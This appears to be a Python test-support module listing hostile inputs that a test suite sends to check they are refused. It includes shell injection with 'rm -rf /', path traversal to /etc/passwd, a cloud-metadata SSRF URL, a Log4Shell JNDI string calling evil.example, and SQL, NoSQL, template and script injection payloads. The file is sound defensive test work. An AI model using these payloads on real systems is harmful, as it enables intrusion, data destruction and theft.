"""What people, programs and attackers send, and how many of it the tests have had refused.

The counts go with the reports of the tests, so that they can be told at the end (``tests/conftest.py``), whichever
process ran what.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

COUNTED = "bad input: "
Sent = Callable[[str, int], None]
"""Of the fixture ``sent``: where it was sent to, and how many."""

WORDS = (
    "",
    " ",
    "x" * 50_000,
    "\x00",
    "a\x1b[2Jb\x07",
    "\u202egnp.exe",
    "\ud83d",  # half of a pair: no text at all in UTF-8
    "𝕳𝖊𝖑𝖑𝖔 e\u0301 \u200b",
    "[click](javascript:alert(1)) <img src=x onerror=alert(1)> | a | b |\n# head",
    "' OR 1=1 --",
    '"} | filter 1=1 | fields @message',
    "$(touch /tmp/x); `id` && rm -rf / #",
    "--config=/etc/passwd",
    "../../../../etc/passwd",
    "/dev/stdin",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "http://localhost:8233/",
    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/a}",
    "%n%s%x {0.__class__}",
)
"""Text that means something to Markdown, a terminal, a shell, a query, a template, a path or a URL."""

VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    10**400,
    1e308,
    [],
    {},
    [[[[[[[[[[]]]]]]]]]],
    {"$where": "sleep(10000)"},
    {"$ne": None},
    {"__proto__": {"admin": True}},
    ["x"] * 5_000,
    {f"field {number}": number for number in range(2_000)},
    {"x" * 10_000: 1},
    {"a\x1b[2J\nb": 1},
)
